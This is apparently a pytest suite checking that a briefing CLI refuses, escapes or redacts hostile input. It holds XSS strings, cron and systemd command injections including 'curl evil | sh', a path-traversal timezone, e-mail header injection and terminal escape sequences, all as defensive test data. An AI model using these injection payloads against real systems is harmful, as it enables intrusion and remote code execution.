"""Outputs, stores, escaping, secrets and values under hostile conditions.

Every case ends in one ``Error:`` line (exit 1, or 2 for a bad flag) or a clean result, with
no traceback, nothing half-written, yesterday's files kept and no secret in any stream.
"""

from __future__ import annotations

import datetime as dt
import fcntl
import json
import os
import re
import sqlite3
import subprocess
import sys
import time
from collections.abc import Sequence
from pathlib import Path

import pytest
from daily_samples import BRIDGE_VOTE, FERRY_STRIKE, ORCHARD_FROST
from hypothesis import given, settings
from hypothesis import strategies as st

from briefing.chunk import Chunk
from briefing.cli import main
from briefing.config import Settings
from briefing.daily.config import DailyConfig
from briefing.daily.deliver import command_environment, run_command
from briefing.daily.run import run_daily
from briefing.daily.store import Store
from briefing.engines.offline import OfflineEngine
from briefing.models import Document, Fact
from briefing.sanitize import _CONTROL, _SPACES, as_text, one_line, remember_secret, trimmed

DAY1 = dt.datetime(2026, 11, 19, 7, 0, tzinfo=dt.UTC)
DAY2 = DAY1 + dt.timedelta(days=1)


def _doc(tmp: Path, name: str = "ferry.txt", text: str = FERRY_STRIKE) -> Path:
    path = tmp / name
    path.write_text(text)
    return path


def _one_error(err: str, needle: str) -> str:
    assert "Traceback" not in err
    lines = [ln for ln in err.splitlines() if ln.startswith("Error:")]
    assert len(lines) == 1, err
    assert needle in lines[0], lines[0]
    return lines[0]


def _cli(args: Sequence[str], capsys: pytest.CaptureFixture[str]) -> tuple[int, str, str]:
    code = main(list(args))
    out = capsys.readouterr()
    return code, out.out, out.err


# ---------------------------------------------------------------------------- -o targets


def test_o_refuses_links_devices_and_folders(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    doc = _doc(tmp_path)
    precious = tmp_path / "precious.txt"
    precious.write_text("keep me")
    link = tmp_path / "brief.md"
    link.symlink_to(precious)
    for target, needle in ((link, "symbolic link"), ("/dev/null", "not a regular file")):
        code, out, err = _cli(["build", str(doc), "-o", str(target)], capsys)
        assert code == 1 and out == ""
        _one_error(err, needle)
    folder = tmp_path / "out.md"
    folder.mkdir()
    code, _, err = _cli(["build", str(doc), "-o", str(folder)], capsys)
    assert code == 1
    _one_error(err, "directory")
    assert link.is_symlink() and precious.read_text() == "keep me"
    assert os.listdir(folder) == []


def test_o_into_a_folder_that_cannot_be_written(capsys: pytest.CaptureFixture[str]) -> None:
    code, out, err = _cli(["build", "examples", "-o", "/proc/brief.md"], capsys)
    assert code == 1 and out == ""
    _one_error(err, "/proc/brief.md")


def test_stale_temporaries_are_removed_and_live_ones_kept(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    doc = _doc(tmp_path)
    stale = tmp_path / ".brief.md.k1ll3d_0.tmp"
    stale.write_text("half a brief")
    os.utime(stale, (time.time() - 60, time.time() - 60))
    live = tmp_path / ".brief.md.wr1t1ng0.tmp"
    live.write_text("being written")
    os.utime(live, (time.time() - 60, time.time() - 60))
    unrelated = tmp_path / ".notes.tmp"
    unrelated.write_text("not ours")
    with live.open("rb") as holder:
        fcntl.flock(holder.fileno(), fcntl.LOCK_EX)
        code, _, err = _cli(["build", str(doc), "-o", str(tmp_path / "brief.md")], capsys)
    assert code == 0, err
    assert not stale.exists() and live.exists() and unrelated.exists()
    assert sorted(p.name for p in tmp_path.glob(".*.tmp")) == [
        ".brief.md.wr1t1ng0.tmp",
        ".notes.tmp",
    ]


# ---------------------------------------------------------------------------- stdout


def test_pdf_goes_to_a_redirected_stdout(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsysbinary: pytest.CaptureFixture[bytes]
) -> None:
    import briefing.cli.build

    pdf = b"%PDF-1.7\n\x00\xff\xfe binary body"  # rendering itself is tested in test_pdf.py
    monkeypatch.setattr(briefing.cli.build, "render", lambda *a, **k: pdf)
    code = main(["build", str(_doc(tmp_path)), "-f", "pdf"])
    out = capsysbinary.readouterr()
    assert code == 0 and out.out == pdf and b"Error" not in out.err


def test_pdf_to_a_terminal_is_refused_before_rendering(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    master, slave = os.openpty()
    terminal = os.fdopen(slave, "w")
    rendered: list[bool] = []
    import briefing.pipeline

    monkeypatch.setattr(briefing.pipeline, "build_brief", lambda *a, **k: rendered.append(True))
    monkeypatch.setattr(sys, "stdout", terminal)
    try:
        code = main(["build", str(_doc(tmp_path)), "-f", "pdf"])
    finally:
        monkeypatch.undo()
        terminal.close()
        os.close(master)
    err = capsys.readouterr().err
    assert code == 1 and rendered == []
    _one_error(err, "terminal")


def _run_module(args: str, tmp: Path) -> subprocess.CompletedProcess[str]:
    env = {k: v for k, v in os.environ.items() if not k.startswith(("OPENAI_", "BRIEFING_"))}
    return subprocess.run(
        ["bash", "-c", f"{sys.executable} -m briefing {args}"],
        capture_output=False,
        stderr=subprocess.PIPE,
        text=True,
        timeout=60,
        cwd=tmp,
        env=env,
        check=False,
    )


def test_a_full_device_on_stdout_is_one_error_line(tmp_path: Path) -> None:
    _doc(tmp_path)
    full = _run_module("build ferry.txt -f json > /dev/full", tmp_path)
    assert full.returncode == 1
    _one_error(full.stderr, "stdout")
    assert full.stderr.count("\n") == 1  # nothing from the interpreter's exit either


def test_briefing_text_on_a_full_device_is_one_error_line(tmp_path: Path) -> None:
    _doc(tmp_path)
    full = _run_module("text ferry.txt > /dev/full", tmp_path)
    assert full.returncode == 1
    _one_error(full.stderr, "stdout: cannot write the text")
    assert full.stderr.count("\n") == 1


@pytest.mark.parametrize("command", ["build", "text"])
def test_dash_output_is_stdout_not_a_file_named_dash(
    command: str,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    monkeypatch.chdir(tmp_path)
    _doc(tmp_path)
    code, out, err = _cli([command, "ferry.txt", "-o", "-", "-q"], capsys)
    assert code == 0 and err == ""
    assert out == (_cli([command, "ferry.txt", "-q"], capsys)[1])
    assert not (tmp_path / "-").exists()


def test_briefing_text_refuses_to_write_over_its_source(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    from formats_samples import make_docx

    source = make_docx(tmp_path / "note.docx")
    before = source.read_bytes()
    link = tmp_path / "same.docx"
    os.link(source, link)  # another name for the same file
    for target in (source, link):
        code, out, err = _cli(["text", str(source), "-o", str(target)], capsys)
        assert code == 1 and out == ""
        _one_error(err, "is the source itself")
    assert source.read_bytes() == before


def test_a_closed_stdout_is_one_error_line(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setattr(sys, "stdout", None)  # what Python sets when fd 1 was closed
    code = main(["build", str(_doc(tmp_path))])
    monkeypatch.undo()
    assert code == 1
    _one_error(capsys.readouterr().err, "stdout: is closed")


# ---------------------------------------------------------------------------- the daily store


def _daily(tmp: Path, **extra: object) -> DailyConfig:
    inbox = tmp / "inbox"
    inbox.mkdir(exist_ok=True)
    values: dict[str, object] = {"sources": [str(inbox)], "out": tmp / "briefs"}
    values.update(extra)
    return DailyConfig.model_validate(values)


def test_daily_out_onto_a_file_is_one_line(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    (tmp_path / "inbox").mkdir()
    _doc(tmp_path / "inbox")
    taken = tmp_path / "briefs"
    taken.write_text("a file")
    code, _, err = _cli(["daily", str(tmp_path / "inbox"), "--out", str(taken)], capsys)
    assert code == 1 and taken.read_text() == "a file"
    _one_error(err, str(taken))


def test_store_errors_after_opening_keep_yesterdays_brief(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    inbox = tmp_path / "inbox"
    inbox.mkdir()
    _doc(inbox)
    args = ["daily", str(inbox), "--out", str(tmp_path / "briefs"), "--date", "2026-11-19"]
    assert main(args) == 0
    capsys.readouterr()
    latest = (tmp_path / "briefs" / "latest.md").read_bytes()
    _doc(inbox, "bridge.txt", BRIDGE_VOTE)

    def full_disk(self: Store, *a: object, **k: object) -> None:
        raise sqlite3.OperationalError("database or disk is full")

    monkeypatch.setattr(Store, "record_run", full_disk)
    code, _, err = _cli([*args[:-1], "2026-11-20"], capsys)
    assert code == 1
    _one_error(err, "briefing.sqlite")
    assert (tmp_path / "briefs" / "latest.md").read_bytes() == latest
    assert not (tmp_path / "briefs" / "2026-11-20.md").exists()


@pytest.mark.parametrize(
    ("damage", "table"),
    [
        ("UPDATE facts SET data='garbage'", "facts"),
        ("INSERT INTO contradictions VALUES ('2026-11-19', 1, 0, 'k', '[]')", "contradictions"),
        ("UPDATE stories SET data='{}'", "stories"),
        ("UPDATE runs SET day='notaday'", "runs"),
        ("UPDATE runs SET window_end='x'", "runs"),
        ("UPDATE files SET size='big'", "files"),
        ("UPDATE documents SET date='2026-99-99', briefed_day=NULL", "documents"),
    ],
)
def test_a_damaged_row_in_the_store_is_one_line_and_keeps_yesterdays_brief(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], damage: str, table: str
) -> None:
    # Values briefing never writes (a store edited by hand, or damaged on disk in a way
    # SQLite does not notice) were a JSONDecodeError, ValidationError or ValueError traceback.
    inbox = tmp_path / "inbox"
    inbox.mkdir()
    _doc(inbox)
    _doc(inbox, "bridge.txt", BRIDGE_VOTE)
    out = tmp_path / "briefs"
    args = ["daily", str(inbox), "--out", str(out)]
    assert main([*args, "--date", "2026-11-19"]) == 0
    latest = (out / "latest.md").read_bytes()
    with sqlite3.connect(out / "briefing.sqlite") as db:
        db.execute(damage)
    db.close()
    _doc(inbox, "orchard.txt", ORCHARD_FROST)
    capsys.readouterr()
    code, _, err = _cli([*args, "--date", "2026-11-20"], capsys)
    assert code == 1
    _one_error(err, f"a row of its {table} table cannot be read")
    assert (out / "latest.md").read_bytes() == latest


@pytest.mark.parametrize(
    "damage",
    ["UPDATE runs SET warnings='not json'", "UPDATE runs SET started_at='x'",
     "UPDATE runs SET cost_usd='abc'"],
)  # fmt: skip
def test_history_of_a_damaged_store_is_one_line(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], damage: str
) -> None:
    inbox = tmp_path / "inbox"
    inbox.mkdir()
    _doc(inbox)
    out = tmp_path / "briefs"
    assert main(["daily", str(inbox), "--out", str(out), "--date", "2026-11-19"]) == 0
    with sqlite3.connect(out / "briefing.sqlite") as db:
        db.execute(damage)
    db.close()
    capsys.readouterr()
    code, _, err = _cli(["history", "--out", str(out)], capsys)
    assert code == 1
    _one_error(err, "a row of its runs table cannot be read")


_KINDS = {"folder": "a directory", "fifo": "a FIFO (named pipe)", "device": "a character device"}


@pytest.mark.parametrize("kind", list(_KINDS))
def test_a_store_path_that_is_no_file_is_named_for_what_it_is(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], kind: str
) -> None:
    # history said "no corpus store yet; run 'briefing daily' first" for a folder (the wrong
    # reason), and daily "unable to open database file" or "disk I/O error".
    store = tmp_path / "briefing.sqlite"
    if kind == "folder":
        store.mkdir()
    elif kind == "fifo":
        if not hasattr(os, "mkfifo"):
            pytest.skip("needs POSIX FIFOs")
        os.mkfifo(store)
    else:
        store = Path(os.devnull)
    what = _KINDS[kind]
    code, _, err = _cli(["history", "--store", str(store)], capsys)
    assert code == 1
    _one_error(err, f"{store}: is {what}, not a corpus store")
    inbox = tmp_path / "inbox"
    inbox.mkdir()
    _doc(inbox)
    out = tmp_path / "briefs"
    code, _, err = _cli(["daily", str(inbox), "--out", str(out), "--store", str(store)], capsys)
    assert code == 1
    _one_error(err, f"{store}: is {what}, not a corpus store")
    assert not out.exists()  # nothing made: not the out folder, not a lock beside the store
    assert kind == "device" or not Path(f"{store}.lock").exists()
    assert main(["history", "--store", str(tmp_path / "none.sqlite")]) == 1
    assert "no corpus store yet" in capsys.readouterr().err


def test_an_output_that_cannot_be_written_fails_the_run_in_one_line(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    inbox = tmp_path / "inbox"
    inbox.mkdir()
    _doc(inbox)
    out = tmp_path / "briefs"
    args = ["daily", str(inbox), "--out", str(out)]
    assert main([*args, "--date", "2026-11-19"]) == 0
    latest = (out / "latest.md").read_bytes()
    (out / "2026-11-20.md").mkdir()
    _doc(inbox, "bridge.txt", BRIDGE_VOTE)
    capsys.readouterr()
    code, _, err = _cli([*args, "--date", "2026-11-20"], capsys)
    assert code == 1
    _one_error(err, "2026-11-20.md")
    assert (out / "latest.md").read_bytes() == latest


# ---------------------------------------------------------------------------- escaping


def test_source_strings_are_escaped_in_markdown(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    hostile = (
        "<img src=x onerror=alert(1)> Ferry strike [click](javascript:alert(2))\n"
        "URL: javascript:alert(3)\n"
        "Source: Wire`` <script>alert(4)</script>\n\n" + FERRY_STRIKE
    )
    name = "a`b``c.txt"
    _doc(tmp_path, name, hostile)
    _doc(tmp_path, "bridge.txt", "Title\nURL: https://example.org/ok?a=1\n\n" + BRIDGE_VOTE)
    code, out, err = _cli(["build", str(tmp_path)], capsys)
    assert code == 0, err
    for live in (r"(?<!\\)<img", r"(?<!\\)<script", r"(?<!\\)\]\(javascript", r"<javascript"):
        assert re.search(live, out) is None, live  # only escaped forms are left
    assert r"\<img src=x" in out and "javascript:alert(3)" in out  # shown, as text
    assert "<https://example.org/ok?a=1>" in out
    assert "```" + f"{tmp_path / name}" + "```" in out  # a code span its name cannot close


def test_character_references_in_sources_are_shown_as_written_in_markdown(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    # A Markdown viewer decodes "&#x202e;" into a right-to-left override and "&#27;" into an
    # escape: the characters the page removes from sources would come back through it.
    hostile = (
        "Ferry &#x202e;strike&#x202c; &#27;[2J &lt;script&gt;\nSource: Wire &amp; Co &#8238;\n\n"
        + FERRY_STRIKE.replace("walked off", "walked &#x202e;off&#x202c;")
    )
    _doc(tmp_path, "ferry.txt", hostile)
    code, out, err = _cli(["build", str(tmp_path)], capsys)
    assert code == 0, err
    assert re.search(r"(?<!\\)&", out) is None, out  # every "&" escaped: no reference decoded
    assert r"walked \&\#x202e;off\&\#x202c;" in out  # the quote as the source writes it
    assert r"Ferry \&\#x202e;strike" in out and r"Wire \&amp; Co" in out


def test_html_links_only_http_urls(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    pytest.importorskip("jinja2")
    hostile = "Ferry\nURL: javascript:alert(3)\n\n" + FERRY_STRIKE
    _doc(tmp_path, "x.txt", hostile)
    code, out, err = _cli(["build", str(tmp_path), "-f", "html"], capsys)
    assert code == 0, err
    assert 'href="javascript' not in out and "javascript:alert(3)" in out


# ---------------------------------------------------------------------------- secrets


class _LeakingEngine(OfflineEngine):
    key = ""

    def extract_facts(
        self, topic: str, documents: Sequence[Document], chunks: Sequence[Chunk]
    ) -> list[Fact]:
        raise RuntimeError(f"endpoint said: invalid key {self.key}")


def test_a_secret_in_an_error_is_not_stored_in_the_run_history(tmp_path: Path) -> None:
    key = "sk-test-history-" + "x" * 20
    remember_secret(key)
    config = _daily(tmp_path)
    _doc(tmp_path / "inbox")
    engine = _LeakingEngine()
    engine.key = key
    with pytest.raises(RuntimeError):
        run_daily(config, now=DAY1, settings=Settings(cache=False), engine=engine)
    with Store(config.store_path) as store:
        [run] = store.runs()
    assert run.error is not None and "[redacted]" in run.error and key not in run.error
    assert key.encode() not in config.store_path.read_bytes()


def test_delivery_command_gets_no_secrets_unless_asked(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("OPENAI_API_KEY", "sk-test-env-key-123456")
    monkeypatch.setenv("BRIEFING_SMTP_PASSWORD", "smtp-password-654321")
    monkeypatch.setenv("UNRELATED", "kept")
    brief = _doc(tmp_path, "brief.md", "# brief")
    dump = "import json, os, sys; json.dump(dict(os.environ), open(sys.argv[1] + '.env', 'w'))"
    run_command([sys.executable, "-c", dump, "{path}"], brief)
    seen = json.loads((tmp_path / "brief.md.env").read_text())
    assert seen["UNRELATED"] == "kept"
    assert "OPENAI_API_KEY" not in seen and "BRIEFING_SMTP_PASSWORD" not in seen
    run_command(
        [sys.executable, "-c", dump, "{path}"], brief, env=command_environment(keep_secrets=True)
    )
    seen = json.loads((tmp_path / "brief.md.env").read_text())
    assert seen["OPENAI_API_KEY"] == "sk-test-env-key-123456"


# ---------------------------------------------------------------------------- schedule


@pytest.mark.parametrize(
    "extra",
    [
        ["--cron", "--log", "x.log\n* * * * * curl evil | sh"],
        ["--cron", "--workdir", "/tmp\n* * * * * id"],
        ["--systemd", "--workdir", "/tmp\nExecStartPre=/bin/id"],
        ["--cron", "--workdir", "/tmp\x1b[2J"],
    ],
)
def test_schedule_refuses_newlines_and_control_characters(
    tmp_path: Path, extra: list[str], capsys: pytest.CaptureFixture[str]
) -> None:
    code, out, err = _cli(["schedule", *extra, "--dir", str(tmp_path / "units")], capsys)
    assert code == 1 and out == ""
    _one_error(err, "newline or control character")
    assert "\x1b" not in err
    assert not (tmp_path / "units").exists()


# ---------------------------------------------------------------------------- values


@pytest.mark.parametrize(
    ("table", "needle"),
    [
        ("window_hours = 1e300", "window_hours"),
        ("window_hours = inf", "window_hours"),
        ("window_hours = nan", "window_hours"),
        ("retention_days = 999999", "retention_days"),
        ("http_timeout_s = inf", "http_timeout_s"),
        ('timezone = "America"', "timezone"),
        ('timezone = "../../etc/passwd"', "timezone"),
        ("max_entries_per_feed = 0", "max_entries_per_feed"),
    ],
)
def test_daily_settings_out_of_range_are_one_line(
    tmp_path: Path, table: str, needle: str, capsys: pytest.CaptureFixture[str]
) -> None:
    config = tmp_path / "briefing.toml"
    config.write_text(f'[daily]\nsources = ["inbox"]\n{table}\n')
    (tmp_path / "inbox").mkdir()
    _doc(tmp_path / "inbox")
    code, _, err = _cli(["daily", "--config", str(config)], capsys)
    assert code == 1
    _one_error(err, needle)
    assert not (tmp_path / "briefs").exists()


@pytest.mark.parametrize(
    ("args", "code", "needle"),
    [
        (["build", "{doc}", "--max-doc-mb", "nan"], 2, "--max-doc-mb"),
        (["build", "{doc}", "--max-doc-mb", "inf"], 2, "--max-doc-mb"),
        (["text", "{doc}", "--max-doc-mb", "nan"], 2, "--max-doc-mb"),  # was a traceback
        (["text", "{doc}", "--max-doc-mb", "inf"], 2, "--max-doc-mb"),
        (["text", "{doc}", "--max-doc-mb", "5000"], 2, "at most 1024"),  # build's range
        (["build", "{doc}", "--timeout", "nan"], 2, "--timeout"),  # a flag's value: usage
        (["build", "{doc}", "--date", "0001-01-01"], 2, "--date"),
        (["daily", "{dir}", "--date", "0001-01-01", "--timezone", "Asia/Tokyo"], 2, "--date"),
        (["daily", "{dir}", "--timezone", "America"], 2, "America"),
    ],
)
def test_flags_out_of_range_are_one_line(
    tmp_path: Path, args: list[str], code: int, needle: str, capsys: pytest.CaptureFixture[str]
) -> None:
    doc = _doc(tmp_path)
    argv = [a.format(doc=doc, dir=tmp_path) for a in args]
    if argv[0] == "daily":
        argv += ["--out", str(tmp_path / "briefs")]
    got, _, err = _cli(argv, capsys)
    assert got == code
    assert "Traceback" not in err
    lines = [ln for ln in err.splitlines() if needle in ln]
    assert len(lines) == 1 and (lines[0].startswith("Error:") or "error:" in lines[0])


def test_a_config_that_is_not_utf8_is_one_line(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    config = tmp_path / "briefing.toml"
    config.write_bytes('[build]\ntopic = "caf\u00e9"\n'.encode("cp1252"))
    code, _, err = _cli(
        ["build", str(_doc(tmp_path, "o.txt", ORCHARD_FROST)), "--config", str(config)], capsys
    )
    assert code == 1
    _one_error(err, "not UTF-8")


@pytest.mark.parametrize("limit", ["0", "-1", "99999999999999999999999", "x"])
def test_history_limit_out_of_range_is_a_usage_error(
    limit: str, capsys: pytest.CaptureFixture[str]
) -> None:
    code = main(["history", "--limit", limit])
    err = capsys.readouterr().err
    assert code == 2 and "--limit" in err and "Traceback" not in err


def test_names_reach_no_page_with_a_control_character(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    hostile = "Ferry \x1b[31mstrike\x1b[0m\u202e\nSource: Wire\x07 Service\n\n" + FERRY_STRIKE
    _doc(tmp_path, "evil\x1b]0;title\x07.txt", hostile)
    for fmt in ("md", "html", "json"):
        code, out, err = _cli(["build", str(tmp_path), "-f", fmt], capsys)
        assert code == 0, err
        assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f\u202e]", out), fmt
        assert "\\u001b" not in out and "\\u0007" not in out  # nor escaped in the JSON


def test_text_and_topic_reach_no_page_with_a_control_character(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    marks = "\x1b]8;;https://evil.example/\x1b\\ \x1b[2J\x07\x9b31m\u202e\u2066"
    body = " ".join(f"{s}.{marks}" for s in FERRY_STRIKE.split(".") if s.strip())
    _doc(tmp_path, "ferry.txt", "Ferry strike\n\n" + body)
    _doc(tmp_path, "bridge.txt", "Bridge vote\n\n" + BRIDGE_VOTE.replace(". ", f". {marks}"))
    control = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
    for fmt in ("md", "html", "json"):
        topic = "ferry \x1b[2Jstrike\u202e crews"
        code, out, err = _cli(["build", str(tmp_path), "-f", fmt, "--topic", topic], capsys)
        assert code == 0, err
        assert "crews" in out and not control.search(out + err), fmt
        assert not re.search(r"\\u00(1b|07|9b)|\\u202e", out), fmt  # nor escaped in the JSON


def test_a_topic_of_a_whole_article_or_one_huge_word_is_cut_on_the_page(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    # The page showed the whole --topic twice (title and topic line): a 1 MB topic gave a
    # 2 MB "one-page" Markdown brief, and a PDF that WeasyPrint laid out for over 10 minutes
    # when the topic was one unbroken word. It still selects by all its words.
    _doc(tmp_path, "ferry.txt", "Ferry strike\n\n" + FERRY_STRIKE)
    _doc(tmp_path, "bridge.txt", "Bridge vote\n\n" + BRIDGE_VOTE)
    article = " ".join([FERRY_STRIKE] * 200)  # 150 kB
    word = "ferry" + "x" * 200_000 + " strike"
    for topic in (article, word):
        for fmt in ("md", "json"):
            code, out, err = _cli(["build", str(tmp_path), "-f", fmt, "--topic", topic], capsys)
            assert code == 0, err
            assert len(out) < 10_000 and "Halvik" in out, fmt
            assert "bridge.txt" not in out  # the other document is off the topic
        brief = json.loads(out)
        assert brief["topic"].endswith("\u2026") and len(brief["topic"]) <= 300
        assert len(brief["title"]) <= 300


def test_daily_removes_what_a_killed_run_was_writing(tmp_path: Path) -> None:
    config = _daily(tmp_path)
    _doc(tmp_path / "inbox")
    out = tmp_path / "briefs"
    out.mkdir()
    killed = out / ".2026-11-18.pdf.abcd1234.tmp"  # another day's name: a run killed mid-write
    killed.write_bytes(b"%PDF half")
    os.utime(killed, (time.time() - 60, time.time() - 60))
    mine = out / "notes.tmp"  # not a name briefing makes
    mine.write_text("keep")
    run_daily(config, now=DAY1, settings=Settings(cache=False))
    assert not killed.exists() and mine.exists()


def test_every_command_reports_a_closed_stdout_in_one_line(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setattr(sys, "stdout", None)
    code = main(["schedule", "--cron"])
    monkeypatch.undo()
    assert code == 1
    _one_error(capsys.readouterr().err, "stdout: is closed")


@settings(max_examples=500, deadline=None)
@given(
    st.text(
        alphabet=st.sampled_from("a. /\t\n\r\x00\x1b\x7f\x85\u00a0\u2003\u2028\u202e\udcff\u00e9"),
        max_size=12,
    )
)
def test_one_line_of_a_name_that_is_already_one_line_is_the_name(name: str) -> None:
    # one_line returns printable ASCII with single inner spaces as it is: the same line the
    # full replacement gives, for any text.
    assert one_line(name) == trimmed(_SPACES.sub(" ", _CONTROL.sub(" ", as_text(name))))


def test_a_title_shows_no_invisible_character_at_its_ends(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    # A zero-width space or a soft hyphen opening a text's first line is not part of its title.
    _doc(tmp_path, "ferry.txt", "\u200bFerry strike halts crossings\u00ad\n\n" + FERRY_STRIKE)
    _doc(tmp_path, "bridge.txt", "Title: \ufeff\u2060Bridge vote\u200b\n\n" + BRIDGE_VOTE)
    code, out, err = _cli(["build", str(tmp_path), "-f", "json"], capsys)
    assert code == 0, err
    titles = {s["title"] for s in json.loads(out)["sources"]}
    assert titles == {"Ferry strike halts crossings", "Bridge vote"}


@pytest.mark.parametrize(
    ("setting", "needle"),
    [
        ('subject = "{x}"', "the subject may hold only {date} and {title}, not {x}"),
        ('subject = "{date:>999999999999}"', "not {date:>999999999999}"),
        ('subject = "{title:>300000000}"', "not {title:>300000000}"),
        ('subject = "{title.__class__.__mro__}"', "not {title.__class__.__mro__}"),
        ('subject = "Brief {"', "write a brace as {{ or }}"),
        ('sender = "b@example.org\\r\\nBcc: x@evil.example"', "holds a line break"),
        ('to = ["a@example.org\\nBcc: x@evil.example"]', "holds a line break"),
    ],
)
def test_an_email_setting_that_would_fail_after_the_brief_is_refused_before_it(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch,
    setting: str, needle: str,
) -> None:  # fmt: skip
    # A subject of '{x}' was a KeyError traceback once the brief was written, a format spec a
    # MemoryError (or a 300 MB subject), and a line break in an address a ValueError traceback
    # from the e-mail package.
    monkeypatch.chdir(tmp_path)
    _doc(tmp_path)
    email = {"to": 'to = ["a@example.org"]', "sender": 'sender = "b@example.org"',
             "subject": 'subject = "Brief {date}"'}  # fmt: skip
    email[setting.split(" ", 1)[0]] = setting
    Path("briefing.toml").write_text(
        '[daily]\nsources = ["ferry.txt"]\nout = "out"\n[daily.email]\nhost = "127.0.0.1"\n'
        + "\n".join(email.values())
        + "\n"
    )
    code, _, err = _cli(["daily", "--date", "2026-11-20"], capsys)
    assert code == 1
    _one_error(err, needle)
    assert not Path("out").exists()  # refused before anything is read or written
